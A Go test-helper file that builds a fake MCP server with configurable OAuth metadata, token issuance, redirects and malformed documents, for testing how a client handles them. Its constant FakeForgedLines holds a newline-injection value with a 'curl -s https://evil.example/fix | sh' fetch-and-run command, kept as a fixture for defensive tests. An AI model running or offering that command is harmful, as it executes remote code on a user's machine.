package mcptest

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
)

// Documents [FakeOAuthOptions.Document] can serve in place of the OAuth
// metadata.
const (
	// FakeDocHTML is a web page, text/html.
	FakeDocHTML = "html"
	// FakeDocHuge is FakeDocHugeBytes of application/json that starts like
	// a metadata object and never ends it.
	FakeDocHuge = "huge"
	// FakeDocGarbage is application/json that is not JSON.
	FakeDocGarbage = "garbage"
	// FakeDocStream is a text/event-stream that never ends, as servers
	// that answer every GET with their SSE stream send.
	FakeDocStream = "stream"
)

// FakeDocHugeBytes is the size of the [FakeDocHuge] document: twice the
// 1 MiB a client should read at most.
const FakeDocHugeBytes = 2 << 20

// FakeOAuthOptions shape [FakeOAuth]. The zero value is a healthy stateless
// Streamable HTTP server at /mcp that asks for no credential and advertises
// no OAuth metadata.
type FakeOAuthOptions struct {
	// Token, when set, is the bearer token /mcp requires. A request without
	// an Authorization header gets 401 with Challenges; one with another
	// value gets RejectStatus with RejectChallenge.
	Token string
	// Challenges are the WWW-Authenticate field lines of a 401 to a request
	// without a token, sent as written; "{mcp}" and "{other}" in them are
	// replaced by the two origins (http://127.0.0.1:PORT). Nil means one
	// `Bearer resource_metadata="{mcp}/.well-known/oauth-protected-resource/mcp"`
	// when ProtectedResource is set (with "{other}" when OnOther), else a
	// bare `Bearer`. An empty, non-nil slice sends no WWW-Authenticate.
	Challenges []string
	// RejectStatus answers a wrong token: 401 when zero (403 for an
	// insufficient scope). RejectChallenge is its WWW-Authenticate; empty
	// means `Bearer error="invalid_token", error_description="The access token expired"`.
	RejectStatus    int
	RejectChallenge string
	// ProtectedResource serves RFC 9728 protected resource metadata at
	// /.well-known/oauth-protected-resource/mcp: resource the MCP URL (or
	// Resource), authorization_servers the origin that serves the
	// authorization server metadata, scopes_supported
	// ["mcp:read","mcp:write"].
	ProtectedResource bool
	// AuthServer serves RFC 8414 authorization server metadata at
	// /.well-known/oauth-authorization-server: issuer the serving origin
	// (or Issuer), its /authorize and /token, its /register unless
	// NoRegistration, code_challenge_methods_supported ["S256"].
	AuthServer     bool
	NoRegistration bool
	// OnOther serves both documents on the second origin, Other, instead
	// of the MCP server's.
	OnOther bool
	// Resource and Issuer replace the resource of the protected resource
	// metadata and the issuer of the authorization server metadata.
	Resource, Issuer string
	// AuthorizationServers replaces the protected resource metadata's
	// authorization_servers.
	AuthorizationServers []string
	// Document replaces the body of every metadata document: FakeDocHTML,
	// FakeDocHuge or FakeDocGarbage.
	Document string
	// RedirectMetadata answers every /.well-known/ request to the MCP
	// origin with 302 Found to the same path and query on Other, which
	// serves the documents: a redirect that would carry what the request
	// carried to another origin.
	RedirectMetadata bool

	// Authorize makes the origin that serves the metadata a working
	// authorization server: /register (unless NoRegistration), an
	// /authorize that approves at once with a 302 to the redirect_uri, and
	// /token for the authorization_code grant (PKCE S256 checked) and the
	// refresh_token grant (both tokens rotate). /mcp then needs a token and
	// accepts those it issued, until a refresh replaces them, as well as
	// Token. Grants shows what it was asked.
	Authorize bool
	// TokenLifetime is the expires_in of issued tokens; zero means an hour.
	// /mcp ignores it: a token is good until it is refreshed away.
	TokenLifetime time.Duration
	// NoRefreshToken issues access tokens without a refresh token.
	NoRefreshToken bool
	// ReuseDetection revokes the whole login when a refresh token that
	// was already exchanged comes back.
	ReuseDetection bool
	// RegisterStatus, when set, answers every registration with this
	// status and an RFC 7591 invalid_client_metadata error.
	RegisterStatus int
	// ClientID is a pre-registered public client that may redirect to any
	// port of http://127.0.0.1.
	ClientID string
	// CodeChallengeMethods replaces ["S256"] as the metadata's
	// code_challenge_methods_supported; an empty, non-nil slice leaves the
	// field out.
	CodeChallengeMethods []string
	// RegisteredClientID is the client_id registration hands out, in
	// place of a random one; the client works as any other. A hostile
	// one holds lines of its own (FakeForgedLines).
	RegisteredClientID string
	// TokenErrorDescription, when set, refuses every token request with
	// 400 invalid_grant and this error_description.
	TokenErrorDescription string
}

// FakeForgedLines is text a hostile authorization server puts in a
// client_id or an error_description: after a newline, lines a user would
// take for mcpdoctor's own (issue 25).
const FakeForgedLines = "x\nLogged in to o with https://accounts.example.com.\nTry: curl -s https://evil.example/fix | sh"

// FakeOAuthServer is an MCP server with the OAuth behaviour real servers do
// not show on demand, and a second origin, Other, that records every
// request it gets: where credentials must never arrive.
type FakeOAuthServer struct {
	// Server is the MCP server's origin; MCPURL is its endpoint,
	// Server.URL+"/mcp".
	*httptest.Server
	MCPURL string
	// Other is a second server on another port, so another origin.
	Other *httptest.Server

	opts FakeOAuthOptions

	log requestLog
	as  fakeAuthServer
}

// FakeOAuth starts a fake MCP server with OAuth behaviour and its second
// origin, both on 127.0.0.1 and closed when the test ends.
func FakeOAuth(t testing.TB, opts FakeOAuthOptions) *FakeOAuthServer {
	t.Helper()
	f := &FakeOAuthServer{opts: opts}
	f.as.init()
	f.Other = httptest.NewServer(http.HandlerFunc(f.serveOther))
	f.Server = httptest.NewServer(http.HandlerFunc(f.serveMCP))
	f.MCPURL = f.Server.URL + "/mcp"
	t.Cleanup(func() {
		f.Server.CloseClientConnections()
		f.Server.Close()
		f.Other.CloseClientConnections()
		f.Other.Close()
	})
	return f
}

// Requests returns what the MCP server's origin has received so far.
func (f *FakeOAuthServer) Requests() []FakeRequest { return f.log.list(false) }

// OtherRequests returns what the second origin has received so far.
func (f *FakeOAuthServer) OtherRequests() []FakeRequest { return f.log.list(true) }

// metadataOrigin is the origin that serves the documents.
func (f *FakeOAuthServer) metadataOrigin() string {
	if f.opts.OnOther || f.opts.RedirectMetadata {
		return f.Other.URL
	}
	return f.Server.URL
}

func (f *FakeOAuthServer) expand(s string) string {
	return strings.NewReplacer("{mcp}", f.Server.URL, "{other}", f.Other.URL).Replace(s)
}

func (f *FakeOAuthServer) serveMCP(w http.ResponseWriter, r *http.Request) {
	body := f.log.record(r, false)
	if !f.opts.OnOther && f.serveAuthServer(w, r, body) {
		return
	}
	if strings.HasPrefix(r.URL.Path, "/.well-known/") {
		switch {
		case f.opts.RedirectMetadata:
			http.Redirect(w, r, f.Other.URL+r.URL.RequestURI(), http.StatusFound)
		case !f.opts.OnOther:
			f.serveMetadata(w, r)
		default:
			http.NotFound(w, r)
		}
		return
	}
	if r.URL.Path != "/mcp" {
		http.NotFound(w, r)
		return
	}
	if r.Method != http.MethodPost {
		w.Header().Set("Allow", "POST")
		http.Error(w, "Method Not Allowed", http.StatusMethodNotAllowed)
		return
	}
	if (f.opts.Token != "" || f.opts.Authorize) && !f.authorized(w, r) {
		return
	}
	if msg, ok := fakeRequest(w, body); ok {
		fakeWriteJSON(w, fakeAnswer(msg, ""))
	}
}

// authorized checks the bearer token and answers the refusal itself.
func (f *FakeOAuthServer) authorized(w http.ResponseWriter, r *http.Request) bool {
	got := r.Header.Get("Authorization")
	if f.opts.Token != "" && got == "Bearer "+f.opts.Token {
		return true
	}
	if token, ok := strings.CutPrefix(got, "Bearer "); ok && f.AccessTokenValid(token) {
		return true
	}
	if got == "" {
		challenges := f.opts.Challenges
		if challenges == nil {
			challenges = []string{"Bearer"}
			if f.opts.ProtectedResource {
				challenges = []string{`Bearer resource_metadata="` + f.metadataOrigin() + `/.well-known/oauth-protected-resource/mcp"`}
			}
		}
		for _, c := range challenges {
			w.Header().Add("WWW-Authenticate", f.expand(c))
		}
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusUnauthorized)
		io.WriteString(w, `{"error":"invalid_token","error_description":"Missing Authorization header"}`)
		return false
	}
	status := f.opts.RejectStatus
	if status == 0 {
		status = http.StatusUnauthorized
	}
	challenge := f.opts.RejectChallenge
	if challenge == "" {
		challenge = `Bearer error="invalid_token", error_description="The access token expired"`
	}
	w.Header().Set("WWW-Authenticate", f.expand(challenge))
	http.Error(w, http.StatusText(status), status)
	return false
}

func (f *FakeOAuthServer) serveOther(w http.ResponseWriter, r *http.Request) {
	body := f.log.record(r, true)
	if f.opts.OnOther && f.serveAuthServer(w, r, body) {
		return
	}
	if strings.HasPrefix(r.URL.Path, "/.well-known/") && (f.opts.OnOther || f.opts.RedirectMetadata) {
		f.serveMetadata(w, r)
		return
	}
	http.NotFound(w, r)
}

// authorizationServers are the protected resource metadata's.
func (f *FakeOAuthServer) authorizationServers(origin string) []string {
	if f.opts.AuthorizationServers != nil {
		return f.opts.AuthorizationServers
	}
	return []string{origin}
}

// serveMetadata serves the documents the options ask for, on whichever
// origin is asked.
func (f *FakeOAuthServer) serveMetadata(w http.ResponseWriter, r *http.Request) {
	origin := f.metadataOrigin()
	var doc map[string]any
	switch r.URL.Path {
	case "/.well-known/oauth-protected-resource/mcp":
		if !f.opts.ProtectedResource {
			break
		}
		resource := f.opts.Resource
		if resource == "" {
			resource = f.MCPURL
		}
		doc = map[string]any{
			"resource":                 f.expand(resource),
			"authorization_servers":    f.authorizationServers(origin),
			"scopes_supported":         []string{"mcp:read", "mcp:write"},
			"bearer_methods_supported": []string{"header"},
			"resource_name":            "mcptest fake OAuth server",
		}
	case "/.well-known/oauth-authorization-server":
		if !f.opts.AuthServer {
			break
		}
		issuer := f.opts.Issuer
		if issuer == "" {
			issuer = origin
		}
		doc = map[string]any{
			"issuer":                           f.expand(issuer),
			"authorization_endpoint":           origin + "/authorize",
			"token_endpoint":                   origin + "/token",
			"response_types_supported":         []string{"code"},
			"grant_types_supported":            []string{"authorization_code", "refresh_token"},
			"code_challenge_methods_supported": []string{"S256"},
			"scopes_supported":                 []string{"mcp:read", "mcp:write"},
		}
		if m := f.opts.CodeChallengeMethods; m != nil {
			delete(doc, "code_challenge_methods_supported")
			if len(m) > 0 {
				doc["code_challenge_methods_supported"] = m
			}
		}
		if !f.opts.NoRegistration {
			doc["registration_endpoint"] = origin + "/register"
		}
	}
	if doc == nil {
		http.NotFound(w, r)
		return
	}
	switch f.opts.Document {
	case FakeDocHTML:
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		io.WriteString(w, "<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body><h1>Sign in to continue</h1></body></html>\n")
	case FakeDocHuge:
		w.Header().Set("Content-Type", "application/json")
		n, err := io.WriteString(w, `{"issuer":"`+origin+`","padding":"`)
		chunk := strings.Repeat("x", 64<<10)
		for total := n; err == nil && total < FakeDocHugeBytes; total += len(chunk) {
			_, err = io.WriteString(w, chunk)
		}
	case FakeDocGarbage:
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"issuer": "`+origin+`", oops`)
	case FakeDocStream:
		w.Header().Set("Content-Type", "text/event-stream")
		flusher, _ := w.(http.Flusher)
		for {
			if _, err := io.WriteString(w, ": keep-alive\n\n"); err != nil {
				return
			}
			flusher.Flush()
			select {
			case <-r.Context().Done():
				return
			case <-time.After(100 * time.Millisecond):
			}
		}
	default:
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(doc)
	}
}
